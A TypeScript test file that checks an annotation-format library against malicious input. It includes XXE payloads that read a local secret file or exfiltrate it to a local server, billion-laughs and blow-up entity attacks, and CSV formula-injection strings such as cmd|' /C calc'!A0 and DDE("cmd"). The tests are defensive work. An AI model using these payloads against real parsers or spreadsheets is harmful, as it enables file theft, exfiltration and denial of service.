import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AnnotationDocument } from '#formats/annotation/document.ts';
import { readAnnotations } from '#formats/annotation/read.ts';
import { writeAnnotations } from '#formats/annotation/write.ts';
import { toErrorShape } from '#shared/contract/errors.ts';

const canary = 'a secret that no file of annotations has';
const folder = mkdtempSync(join(tmpdir(), 'undertone-canary-'));
const secret = join(folder, 'secret.txt');
writeFileSync(secret, canary);

let server: Server;
let connections = 0;
let url = '';
beforeAll(async () => {
  server = createServer((_, response) => response.end(canary));
  server.on('connection', () => {
    connections += 1;
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/x`;
});
afterAll(() => {
  server.close();
  rmSync(folder, { recursive: true });
});

const body = (inside: string): string =>
  `<ANNOTATION_DOCUMENT><HEADER TIME_UNITS="milliseconds"/>${inside}</ANNOTATION_DOCUMENT>`;
const eaf = (doctype: string, inside = '<TIER TIER_ID="&x;"/>'): string =>
  `<?xml version="1.0"?>${doctype}${body(inside)}`;
const laughs = (count: number): string =>
  Array.from({ length: count }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

/** What has been done to readers of XML, and what ours says. */
const attacks: Readonly<Record<string, () => string | Uint8Array>> = {
  'an entity of a file': () => eaf(`<!DOCTYPE a [<!ENTITY x SYSTEM "file://${secret}">]>`),
  'an entity of a path': () => eaf(`<!DOCTYPE a [<!ENTITY x SYSTEM "${secret}">]>`),
  'an entity from the network': () => eaf(`<!DOCTYPE a [<!ENTITY x SYSTEM "${url}">]>`),
  'a public entity': () => eaf(`<!DOCTYPE a [<!ENTITY x PUBLIC "a" "${url}">]>`),
  'a document type from the network': () => eaf(`<!DOCTYPE a SYSTEM "${url}">`),
  'a document type of a file': () => eaf(`<!DOCTYPE a SYSTEM "file://${secret}">`),
  'a parameter entity of a file': () =>
    eaf(`<!DOCTYPE a [<!ENTITY % p SYSTEM "file://${secret}"> %p;]>`),
  'a parameter entity from the network': () =>
    eaf(`<!DOCTYPE a [<!ENTITY % p SYSTEM "${url}"> %p;]>`),
  'a parameter entity that sends a file': () =>
    eaf(
      `<!DOCTYPE a [<!ENTITY % f SYSTEM "file://${secret}"><!ENTITY % e "<!ENTITY s SYSTEM '${url}?%f;'>"> %e;]>`,
    ),
  'a billion laughs': () => eaf(`<!DOCTYPE a [<!ENTITY l0 "ha">${laughs(10)}]>`, '&l10;'),
  'laughs in an attribute': () =>
    eaf(`<!DOCTYPE a [<!ENTITY l0 "ha">${laughs(10)}]>`, '<TIER TIER_ID="&l10;"/>'),
  'quadratic blow-up': () =>
    eaf(`<!DOCTYPE a [<!ENTITY x "${'x'.repeat(50_000)}">]>`, '&x;'.repeat(5000)),
  'an entity of itself': () => eaf('<!DOCTYPE a [<!ENTITY x "&x;">]>'),
  'an entity named like a pattern': () => eaf('<!DOCTYPE a [<!ENTITY l. "x">]>', '&lt;'),
  'an attribute by default': () =>
    eaf('<!DOCTYPE a [<!ATTLIST TIER TIER_ID CDATA "x">]>', '<TIER/>'),
  'a notation': () => eaf(`<!DOCTYPE a [<!NOTATION n SYSTEM "${url}">]>`),
  'a document type after a comment': () => eaf(`<!-- a --><!DOCTYPE a SYSTEM "${url}">`),
  'a document type after an instruction': () => eaf(`<?x y?><!DOCTYPE a SYSTEM "${url}">`),
  'a document type within': () => body(`<!DOCTYPE a SYSTEM "${url}">`),
  'a document type in small letters': () => eaf(`<!doctype a SYSTEM "${url}">`),
  'a document type in UTF-16': () =>
    Buffer.from(`\uFEFF${eaf(`<!DOCTYPE a SYSTEM "${url}">`)}`, 'utf16le'),
  'UTF-7 that hides one': () =>
    `<?xml version="1.0" encoding="UTF-7"?>+ADw-+ACE-DOCTYPE a SYSTEM +ACI-${url}+ACI-+AD4-`,
  'an entity that nobody declared': () => eaf(''),
  'an inclusion': () =>
    body(
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${secret}" parse="text"/>`,
    ),
  'deep nesting': () => body('<a>'.repeat(200_000)),
  'many attributes': () =>
    body(`<TIER ${Array.from({ length: 50_000 }, (_, n) => `a${n}=""`).join(' ')} a1=""/>`),
};

describe('XML made to harm', () => {
  it.each(Object.entries(attacks))(
    'reads no other file, asks nobody and takes little of it: %s',
    async (_, make) => {
      const bytes = Buffer.from(make());
      const before = process.cpuUsage();
      let said = '';
      try {
        said = JSON.stringify(await readAnnotations(bytes, 'evil.eaf', { badRows: 'leave out' }));
      } catch (error) {
        expect(toErrorShape(error).code).toBe('annotations-unreadable');
        said = toErrorShape(error).message;
      }
      const { user } = process.cpuUsage(before);
      expect(said).not.toContain(canary);
      expect(said.length).toBeLessThan(2000);
      expect(connections).toBe(0);
      expect(user / 1e6).toBeLessThan(1);
    },
  );
});

const beginnings = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', "'="];
const formulas = [
  ...['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://x","y")', 'SUM(A1:A9)', 'IMPORTXML("x","y")'],
  ...['A1', '2+5+cmd|x', 'rundll32|x', '-3', '@x', 'DDE("cmd")', 'WEBSERVICE("x")', '', ' ', '0'],
  ...['"quoted"', 'a,b', "it's", 'ü', '=', '==', "'", '\\', ';', '100'],
];
const payloads = beginnings.flatMap((beginning) => formulas.map((each) => beginning + each));

describe('text that a spreadsheet would run', () => {
  it('is 300 different ones', () => {
    expect(new Set(payloads).size).toBe(300);
  });

  it.each(['csv', 'audformat'] as const)(
    'is guarded in every field of text in %s, and comes back as it was',
    async (format) => {
      const isCsv = format === 'csv';
      const item = { start: 0.5, end: 1.5, confidence: 0.5, note: '' };
      const document: AnnotationDocument = {
        recordings: payloads.map((name) => ({
          name: `${name} `,
          seconds: null,
          tiers: [
            {
              name: isCsv ? name : 'emotion',
              source: 'person' as const,
              annotator: isCsv ? name : '',
              items: [{ ...item, label: name, labels: [], probabilities: [] }],
            },
          ],
        })),
      };
      const { bytes } = await writeAnnotations(document, format);
      const { data } = Papa.parse<string[]>(new TextDecoder().decode(bytes), {
        delimiter: ',',
        skipEmptyLines: true,
      });
      expect(data).toHaveLength(payloads.length + 1);
      const dangerous = data.flat().filter((cell) => /^[=+\-@\t\r\n\0＝＋－＠]/u.test(cell));
      expect(dangerous).toEqual([]);
      const { document: back } = await readAnnotations(bytes, 'x.csv', { format });
      expect(back.recordings.map(({ name }) => name)).toEqual(payloads.map((name) => `${name} `));
      const tiers = back.recordings.flatMap((recording) => recording.tiers);
      expect(tiers.flatMap(({ items }) => items.map(({ label }) => label))).toEqual(payloads);
      if (isCsv) expect(tiers.map(({ annotator }) => annotator)).toEqual(payloads);
    },
  );
});
